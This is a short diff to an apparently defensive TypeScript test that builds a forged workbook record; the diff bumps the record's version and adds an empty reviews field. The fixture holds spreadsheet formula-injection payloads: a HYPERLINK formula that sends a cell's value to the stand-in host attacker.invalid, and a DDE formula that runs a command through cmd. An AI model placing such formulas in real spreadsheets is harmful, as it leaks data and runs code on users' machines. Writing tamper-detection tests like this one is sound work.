@@ -270,7 +270,8 @@ export function describeScenarios(name: string, make: (workbook: WorkbookGrid) =
         rowKey: rowKey(grid, row, col),
       });
       const forged = encodeRecord({
-        version: 2,
+        version: 3,
+        reviews: { findings: [], forms: [] },
         sheets: [{ id: sheetId, name: SHEET }],
         // A budget zeroed, a weight replaced by a link, a reported score replaced by a DDE formula.
         values: [aim(5, 3, { value: 0, formula: null }), aim(13, 6, { value: null, formula: '=HYPERLINK("http://attacker.invalid/?d="&B2,"核对")' }), aim(15, 7, { value: null, formula: "=cmd|' /C calc'!A0" })],
